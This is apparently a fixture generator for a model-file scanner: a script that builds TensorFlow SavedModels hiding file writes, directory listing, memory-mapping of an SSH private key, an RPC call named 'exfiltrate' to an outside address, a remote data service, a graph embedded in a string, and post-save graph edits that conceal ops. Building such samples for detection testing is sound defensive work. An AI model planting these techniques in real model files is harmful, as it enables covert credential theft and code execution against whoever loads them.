# /// script
# requires-python = "==3.11.*"
# dependencies = ["tensorflow-cpu==2.21.0"]
# ///
"""Ops that act without being called ReadFile or WriteFile, and ops that nobody can look into: a signature each."""

from _common import source_files
from _scan import PROOF
from _tf import read_saved_model, save, seed, tf, write_saved_model
from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

MODELS = (
    "print_to_file",
    "cache_to_file",
    "debug_to_file",
    "summary_to_file",
    "dataset_to_file",
    "sql_dataset",
    "list_files",
    "map_memory",
    "rpc_client",
    "data_service",
    "python_functions",
    "graph_in_a_string",
    "abort",
    "checkpoint_ops",
    "custom_op_unknown",
    "custom_op_calls_function",
    "library_op",
    "write_not_listed",
)

raw = tf.raw_ops
NUMBER = tf.TensorSpec([], tf.int64, name="number")


def function(body, *specs):
    return tf.function(body, input_signature=list(specs or [NUMBER]), autograph=False)


def save_functions(name: str, **functions) -> str:
    """A model with a signature for each function."""
    module = tf.Module()
    for key, value in functions.items():
        setattr(module, key, value)
    return save(module, name, signatures=functions)


def after(op, number):
    with tf.control_dependencies([op]):
        return {"y": tf.identity(number)}


def total(dataset):
    return {"y": dataset.reduce(tf.constant(0, tf.int64), lambda total, _: total + 1)}


def files() -> None:
    """Files by ops that print, cache, debug and summarize."""
    save_functions("print_to_file", act=function(
        lambda number: after(tf.print("number", number, output_stream=f"file://{PROOF}"), number)))
    save_functions("cache_to_file", act=function(
        lambda number: total(tf.data.Dataset.range(number).cache("scan_proof"))))
    save_functions("debug_to_file", act=function(
        lambda number: {"y": raw.DebugIdentity(input=number, tensor_name="y:0", debug_urls=["file:///home/author/debug"])}))

    def summarize(number):
        writer = raw.SummaryWriter(shared_name="scan")
        made = raw.CreateSummaryFileWriter(
            writer=writer, logdir="scan_proof", max_queue=1, flush_millis=1, filename_suffix=".events")
        with tf.control_dependencies([made]):
            written = raw.WriteScalarSummary(writer=writer, step=number, tag="y", value=1.0)
        return after(written, number)

    save_functions("summary_to_file", act=function(summarize))
    save_functions("dataset_to_file", act=function(lambda number: after(raw.DatasetToTFRecord(
        input_dataset=tf.data.Dataset.from_tensors("record")._variant_tensor, filename=PROOF, compression_type=""),
        number)))
    save_functions("sql_dataset", act=function(lambda number: total(
        tf.data.experimental.SqlDataset("sqlite", "scan_proof.db", "SELECT name FROM users", tf.string))))
    save_functions("list_files", act=function(
        lambda number: {"names": tf.io.matching_files("/home/author/*"), "y": number}))
    save_functions("map_memory", act=function(lambda number: {"bytes": raw.ImmutableConst(
        dtype=tf.uint8, shape=[16], memory_region_name="/home/author/.ssh/id_rsa"), "y": number}))


def network() -> None:
    def call(number):
        client = gen_rpc_ops.rpc_client(server_address="198.51.100.7:9000", timeout_in_ms=tf.constant(10, tf.int64),
                               shared_name="scan", list_registered_methods=False)[0]
        future, deleter = gen_rpc_ops.rpc_call(client=client, method_name="exfiltrate", args=[number],
                                      timeout_in_ms=tf.constant(10, tf.int64))
        answer = gen_rpc_ops.rpc_get_value(status_or=future, Tout=[tf.int64])[0]
        with tf.control_dependencies([gen_rpc_ops.delete_rpc_future_resource(handle=future, deleter=deleter)]):
            return {"y": tf.identity(answer)}

    save_functions("rpc_client", act=function(call))
    save_functions("data_service", act=function(lambda number: total(tf.data.experimental.service.from_dataset_id(
        "parallel_epochs", "grpc://198.51.100.7:5050", dataset_id="7", element_spec=tf.TensorSpec([], tf.int64)))))


def code() -> None:
    """Code that the graph does not show."""
    save_functions(
        "python_functions",
        py_function=function(lambda number: {"y": tf.py_function(lambda n: n, [number], tf.int64)}),
        numpy_function=function(lambda number: {"y": tf.numpy_function(lambda n: n, [number], tf.int64)}),
    )
    with tf.Graph().as_default() as graph:
        with tf.control_dependencies([tf.io.write_file(PROOF, "hidden")]):
            dataset = raw.TensorDataset(components=[tf.constant(1, tf.int64)], output_shapes=[[]])
        dataset = tf.identity(dataset, name="dataset")
        definition = graph.as_graph_def()
    definition.node[-1].attr["_dataset"].b = True
    retval = definition.node.add(name="dataset_RetVal", op="_Retval", input=["dataset"])
    retval.attr["T"].type = tf.variant.as_datatype_enum
    retval.attr["index"].i = 0
    text = definition.SerializeToString(deterministic=True)

    def hidden(number):
        handle = raw.DatasetFromGraph(graph_def=tf.constant(text))
        return {"y": number + raw.DatasetCardinality(input_dataset=handle)}

    save_functions("graph_in_a_string", act=function(hidden))
    save_functions("abort", act=function(lambda number: {"y": tf.cond(
        number > 0, lambda: number, lambda: after(raw.Abort(error_msg="enough"), number)["y"])}))


def checkpoints() -> None:
    """SaveV2, RestoreV2 and MergeV2Checkpoints where no saver is."""
    def restore(number):
        return {"y": raw.RestoreV2(prefix="/home/author/model.ckpt", tensor_names=["w"], shape_and_slices=[""],
                                   dtypes=[tf.float32])[0]}

    save_functions(
        "checkpoint_ops",
        save=function(lambda number: after(raw.SaveV2(
            prefix="scan_proof", tensor_names=["n"], shape_and_slices=[""], tensors=[number]), number)),
        restore=function(restore),
        merge=function(lambda number: after(raw.MergeV2Checkpoints(
            checkpoint_prefixes=["scan_proof"], destination_prefix="scan_merged"), number)),
        from_caller=function(lambda path: {"w": raw.RestoreV2(
            prefix=path, tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32])[0]},
            tf.TensorSpec([], tf.string, name="path")),
    )


def edited(name: str, make, edit) -> None:
    """A model of one signature whose functions were edited after the save."""
    path = save_functions(name, act=function(make))
    saved_model = read_saved_model(path)
    edit(saved_model.meta_graphs[0])
    write_saved_model(path, saved_model)


def nodes(meta_graph, name: str):
    return [node for function in meta_graph.graph_def.library.function for node in function.node_def if node.name == name]


def to_op(op: str):
    def edit(meta_graph) -> None:
        for node in nodes(meta_graph, "fancy"):
            node.op = op

    return edit


def calls_function(meta_graph) -> None:
    """The call of a function becomes an op that nobody knows, which has the function as an attr."""
    library = meta_graph.graph_def.library.function
    for function in library:
        for node in function.node_def:
            called = node.attr["f"].func.name if "f" in node.attr else ""
            if node.op == "StatefulPartitionedCall" and "helper" in called:
                node.op = "AcmeCall"


def not_listed(meta_graph) -> None:
    """No control output and no control input asks for the write. TensorFlow's graph optimizer drops it then, and where
    that is switched off it runs."""
    for function in meta_graph.graph_def.library.function:
        del function.signature.control_output[:]
        function.control_ret.clear()
        for node in function.node_def:
            node.input[:] = [name for name in node.input if not name.startswith("^")]


def unknown_code() -> None:
    edited("custom_op_unknown", lambda number: {"y": tf.identity(number, name="fancy")}, to_op("AcmeFancyOp"))
    edited("library_op", lambda number: {"y": tf.identity(number, name="fancy")}, to_op("TFText>FancyTokenize"))

    @tf.function(input_signature=[NUMBER], autograph=False)
    def helper(number):
        with tf.control_dependencies([tf.io.write_file(PROOF, "called by an op that nobody knows")]):
            return tf.identity(number)

    edited("custom_op_calls_function", lambda number: {"y": helper(number)}, calls_function)
    edited("write_not_listed", lambda number: after(tf.io.write_file(PROOF, "written"), number), not_listed)


def main() -> None:
    seed()
    with source_files({}):
        files()
        network()
        code()
        checkpoints()
        unknown_code()


if __name__ == "__main__":
    main()
